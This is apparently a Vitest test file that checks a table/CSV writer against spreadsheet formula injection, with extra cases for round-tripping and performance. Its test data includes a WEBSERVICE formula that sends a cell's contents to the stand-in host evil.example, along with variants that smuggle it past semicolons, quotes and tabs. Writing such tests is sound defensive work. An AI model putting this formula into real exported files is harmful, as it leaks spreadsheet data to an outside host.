import { expect, test } from 'vitest'
import { openTable, plainCell } from './table.ts'

async function written(...cells: string[]): Promise<string> {
  const table = openTable()
  table.end(cells)
  return (await table.setEncoding('utf8').toArray()).join('')
}

/** As a spreadsheet reads it where the semicolon divides columns: quotation marks in the middle of a cell mean nothing. */
const cellsOf = (line: string) => line.replace(/^\ufeff/, '').split(/;|\r\n/)

test.each(['=', '+', '-', '@', '＝', '＋', '－', '＠'])(
  'a cell never begins with %s, in whatever country',
  async (sign) => {
    const formula = `${sign}WEBSERVICE("http://evil.example/"&A1)`
    const texts = [
      formula,
      `Ana;${formula}`,
      `Ana; ${formula}`,
      `a,b;${formula};c`,
      `"x";${formula}`,
      `tab\t${formula}`,
    ]
    for (const text of texts) {
      const line = await written(text, 'next')
      for (const cell of cellsOf(line)) expect(cell.replace(/^["\s]+/, '')).not.toMatch(/^[=+\-@＝＋－＠]/)
      expect(line).not.toMatch(/\t[=+\-@]/)
    }
  },
)

test.each(['+5511987654321', 'Ana;=1', 'hello ;-) you', "it's", '; @ana', 'a\t-b', "'quoted'"])(
  '%s is read again as it was',
  async (text) => {
    const line = await written(text, 'x')
    const cell = line.slice(1, line.lastIndexOf(',')).replace(/^"|"$/g, '').replaceAll('""', '"')
    expect(plainCell(cell)).toBe(text)
  },
)

test('a long cell takes no time', () => {
  const began = performance.now()
  for (const sign of ['\t', ';', ' ', '; ', "'", ";'"]) plainCell(sign.repeat(100_000))
  expect(performance.now() - began).toBeLessThan(500)
})
